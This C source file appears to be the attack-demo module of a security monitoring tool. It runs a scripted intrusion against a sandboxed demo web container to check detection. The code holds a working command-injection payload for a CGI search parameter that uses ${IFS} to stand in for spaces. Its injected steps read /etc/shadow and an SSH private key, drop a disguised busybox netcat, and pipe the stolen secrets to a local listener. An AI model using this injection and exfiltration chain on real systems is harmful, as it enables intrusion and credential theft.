#include "cli/demo_attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <poll.h>
#include <time.h>

#include "base/clock.h"
#include "base/log.h"
#include "capture/cgroup.h"
#include "cli/box.h"
#include "cli/demo_load.h"
#include "cli/demo_site.h"

#define PAYLOAD "/usr/bin/busybox" /* it has a netcat: run under the name nc it is one */
#define STEP_TIMEOUT_S 6

struct attacker {
    const struct demo_plan *plan;
    pid_t web;
    char procs[CGROUP_PATH_MAX + 64]; /* cgroup.procs of the container */
    struct demo_attack *result;
    atomic_bool stop;
    atomic_int listening; /* 1: yes, < 0: -errno */
};

static const char *const secrets[] = {"/etc/shadow", "/root/.ssh/id_ed25519", "/srv/shop.env"};

static void plan_read(uint64_t *random, struct demo_plan *p)
{
    unsigned n = p->n++, first = demo_random(random) % ARRAY_SIZE(secrets);
    snprintf(p->words[n], sizeof(p->words[n]), "asks who it is, and reads /etc/passwd and %s",
             secrets[first]);
    snprintf(p->steps[n], sizeof(p->steps[n]), "id; cat /etc/passwd %s; ls -la /root",
             secrets[first]);
}

static void plan_drop(uint64_t *random, struct demo_plan *p)
{
    static const char *const directories[] = {"/tmp", "/run", "/var", "/srv/www"};
    static const char *const names[] = {".cache", ".font-unix", "systemd-private", ".npm"};
    char where[64];
    unsigned n = p->n++, way = demo_random(random) % 3;
    snprintf(where, sizeof(where), "%s/%s",
             directories[demo_random(random) % ARRAY_SIZE(directories)],
             names[demo_random(random) % ARRAY_SIZE(names)]);
    snprintf(p->program, sizeof(p->program), "%s/%s", where, way == 2 ? "update" : "nc");
    if (way == 0) {
        snprintf(p->words[n], sizeof(p->words[n]), "downloads a program to %s", p->program);
        snprintf(p->steps[n], sizeof(p->steps[n]),
                 "busybox mkdir -p %s; busybox wget -q -O %s http://127.0.0.1:%u/u; chmod 755 %s",
                 where, p->program, p->port, p->program);
    } else if (way == 1) {
        snprintf(p->words[n], sizeof(p->words[n]), "hides a copy of a program as %s", p->program);
        snprintf(p->steps[n], sizeof(p->steps[n]),
                 "busybox mkdir -p %s; cat /bin/busybox >%s; chmod 755 %s", where, p->program,
                 p->program);
    } else {
        snprintf(p->words[n], sizeof(p->words[n]), "writes a script to %s", p->program);
        snprintf(p->steps[n], sizeof(p->steps[n]),
                 "busybox mkdir -p %s; printf "
                 "'#!/bin/sh\\nexec\\040busybox\\040nc\\040$1\\040$2\\n' >%s; "
                 "chmod 755 %s",
                 where, p->program, p->program);
    }
}

static void plan_call_home(uint64_t *random, struct demo_plan *p)
{
    unsigned n = p->n++, first = demo_random(random) % ARRAY_SIZE(secrets);
    const char *a = secrets[first], *b = secrets[(first + 1) % ARRAY_SIZE(secrets)];
    snprintf(p->words[n], sizeof(p->words[n]), "runs it: it calls home to port %u with %s and %s",
             p->port, a, b);
    snprintf(p->steps[n], sizeof(p->steps[n]), "cat %s %s | %s 127.0.0.1 %u", a, b, p->program,
             p->port);
}

void demo_attack_plan(uint64_t seed, struct demo_plan *ret)
{
    uint64_t random = seed ^ UINT64_C(0x5eed0fa77ac4);
    *ret = (struct demo_plan){.port = (uint16_t)(20000 + demo_random(&random) % 20000)};
    snprintf(ret->token, sizeof(ret->token), "vg%016llx", (unsigned long long)demo_random(&random));
    bool late = demo_random(&random) % 3 == 0; /* first the foothold, then a look around */
    if (!late)
        plan_read(&random, ret);
    plan_drop(&random, ret);
    plan_call_home(&random, ret);
    if (late)
        plan_read(&random, ret);
    for (unsigned i = 0; i < ret->n; i++)
        ret->pauses_ms[i] = 200 + demo_random(&random) % 1500;
}

/* "zz /dev/null; ...": ends the grep that the page runs, and comments out what it has behind. A
 * request line has no spaces: the shell makes them again of ${IFS}. */
static void encode(const struct demo_plan *p, const char *step, char *ret, size_t size)
{
    char text[2048];
    size_t at = (size_t)snprintf(ret, size, "/cgi-bin/search?q=");
    snprintf(text, sizeof(text), "zz /dev/null; : %s; %s;#", p->token, step);
    for (const char *c = text; *c && at + 8 < size; c++)
        at += (size_t)snprintf(ret + at, size - at, *c == ' ' ? "${IFS}" : "%c", *c);
}

static bool carries(pid_t pid, const char *token)
{
    char path[64], text[16384];
    snprintf(path, sizeof(path), "/proc/%d/environ", pid);
    CLEANUP(closep) int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text));
    return n > 0 && memmem(text, (size_t)n, token, strlen(token));
}

static void note_process(struct demo_attack *a, pid_t pid)
{
    for (uint32_t i = a->n_processes; i-- > 0;)
        if (a->processes[i] == pid)
            return;
    if (a->n_processes < ATTACK_PROCESSES_MAX)
        a->processes[a->n_processes++] = pid;
}

/* A CGI program and all that it starts have the request in their environment: that is how the demo
 * knows, apart from anything that Vigia says, which processes are the attack's. Those too
 * short-lived to be seen here have a parent that was. */
static void *track(void *arg)
{
    struct attacker *t = arg;
    const struct timespec step = {.tv_nsec = 1000 * 1000};
    while (!atomic_load(&t->stop)) {
        CLEANUP(fclosep) FILE *f = fopen(t->procs, "re");
        int pid;
        while (f && fscanf(f, "%d", &pid) == 1)
            if (pid != t->web && carries(pid, t->plan->token))
                note_process(t->result, pid);
        nanosleep(&step, NULL);
    }
    return NULL;
}

static void serve_payload(int fd)
{
    CLEANUP(closep) int file = open(PAYLOAD, O_RDONLY | O_CLOEXEC);
    struct stat st;
    if (file < 0 || fstat(file, &st))
        return;
    dprintf(fd, "HTTP/1.0 200 OK\r\nContent-Length: %lld\r\n\r\n", (long long)st.st_size);
    for (off_t left = st.st_size; left > 0;) {
        ssize_t n = sendfile(fd, file, NULL, (size_t)left);
        if (n <= 0)
            return;
        left -= n;
    }
}

/* What comes is either a request for the program, or what the program brings. */
static void answer(int fd, struct demo_attack *a)
{
    const struct timeval timeout = {.tv_sec = STEP_TIMEOUT_S};
    char text[4096];
    ssize_t n;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof(timeout));
    for (bool first = true; (n = recv(fd, text, sizeof(text), 0)) > 0; first = false) {
        if (first && n > 4 && !memcmp(text, "GET ", 4)) {
            serve_payload(fd);
            return;
        }
        a->ran_program = true;
        a->stolen_bytes += (uint64_t)n;
    }
}

static int open_listener(const struct attacker *t, int *ret)
{
    const struct sockaddr_in address = {.sin_family = AF_INET,
                                        .sin_port = htons(t->plan->port),
                                        .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int r = box_enter_network(t->web), yes = 1;
    if (r < 0)
        return r;
    CLEANUP(closep) int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes)) ||
        bind(fd, (const struct sockaddr *)&address, sizeof(address)) || listen(fd, 4))
        return -errno;
    *ret = TAKE_FD(fd);
    return 0;
}

static void *home(void *arg)
{
    struct attacker *t = arg;
    CLEANUP(closep) int fd = -1;
    int r = open_listener(t, &fd);
    atomic_store(&t->listening, r < 0 ? r : 1);
    while (r == 0 && !atomic_load(&t->stop)) {
        struct pollfd wait = {.fd = fd, .events = POLLIN};
        CLEANUP(closep)
        int client = poll(&wait, 1, 50) > 0 ? accept4(fd, NULL, NULL, SOCK_CLOEXEC) : -1;
        if (client >= 0)
            answer(client, t->result);
    }
    return NULL;
}

static double wall(void)
{
    return (double)clock_wall_ns() / 1e9;
}

/* The one who asks sits in the container's network, like the load's client. */
static void *ask(void *arg)
{
    struct attacker *t = arg;
    char target[4096], page[8192];
    if (box_enter_network(t->web))
        return NULL;
    for (unsigned i = 0; i < t->plan->n; i++) {
        encode(t->plan, t->plan->steps[i], target, sizeof(target));
        int status =
            demo_http(DEMO_WEB_PORT, "GET", target, NULL, STEP_TIMEOUT_S, page, sizeof(page));
        log_debug("attack: step %u answered %d", i + 1, status);
        if (status == 200 &&
            (strstr(page, "root:") || strstr(page, "made-up") || strstr(page, "uid=")))
            t->result->read_secrets = true;
        const struct timespec pause = {.tv_sec = t->plan->pauses_ms[i] / 1000,
                                       .tv_nsec = (long)(t->plan->pauses_ms[i] % 1000) * 1000000};
        t->result->last = wall();
        nanosleep(&pause, NULL);
    }
    return NULL;
}

static int find_procs(pid_t pid, char *ret, size_t size)
{
    char path[64], text[16384];
    struct cgroup_place place;
    snprintf(path, sizeof(path), "/proc/%d/cgroup", pid);
    CLEANUP(closep) int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
    if (n <= 0)
        return -ESRCH;
    text[n] = '\0';
    if (cgroup_of(text, &place))
        return -ENOENT;
    snprintf(ret, size, "/sys/fs/cgroup/%s%s/cgroup.procs", place.hierarchy, place.path);
    if (access(ret, R_OK)) /* a machine with v2 alone */
        snprintf(ret, size, "/sys/fs/cgroup%s/cgroup.procs", place.path);
    return access(ret, R_OK) ? -errno : 0;
}

int demo_attack_run(const struct demo_plan *plan, pid_t web, struct demo_attack *ret)
{
    struct attacker t = {.plan = plan, .web = web, .result = ret};
    void *(*const roles[])(void *) = {home, track, ask};
    pthread_t threads[ARRAY_SIZE(roles)];
    const struct timespec step = {.tv_nsec = 5 * 1000 * 1000};
    size_t n = 0;
    *ret = (struct demo_attack){0};
    int r = find_procs(web, t.procs, sizeof(t.procs));
    for (; r == 0 && n < ARRAY_SIZE(roles); n++) {
        r = -pthread_create(&threads[n], NULL, roles[n], &t);
        if (r < 0)
            break;
        while (!atomic_load(&t.listening))
            nanosleep(&step, NULL);
        if (t.listening < 0)
            r = t.listening;
    }
    if (r < 0)
        log_error("the attack could not be carried out: %s", strerror(-r));
    if (n == ARRAY_SIZE(roles))
        pthread_join(threads[--n], NULL);
    atomic_store(&t.stop, true);
    while (n)
        pthread_join(threads[--n], NULL);
    return r;
}
